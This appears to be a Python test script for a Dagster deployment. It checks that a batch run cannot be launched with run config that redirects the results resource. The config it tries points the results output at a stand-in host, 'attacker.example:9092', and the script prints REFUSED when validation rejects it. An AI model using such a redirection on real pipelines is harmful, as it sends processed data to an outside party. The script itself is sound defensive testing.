"""Loads the code location as a deployment does (configured by the environment) and launches a batch run with
run config that would redirect the results resource; prints REFUSED and the first line of the error."""

from dagster import DagsterInstance, DagsterInvalidConfigError

from orchestration.definitions import defs

instance = DagsterInstance.ephemeral()
instance.add_dynamic_partitions("batches", ["b-20261125-120000-0123abcd"])
try:
    defs.resolve_job_def("process_batch").execute_in_process(
        run_config={"resources": {"results": {"config": {"bootstrap": "attacker.example:9092", "topic": "x"}}}},
        instance=instance, partition_key="b-20261125-120000-0123abcd")
except DagsterInvalidConfigError as exc:
    print("REFUSED", str(exc).splitlines()[0])
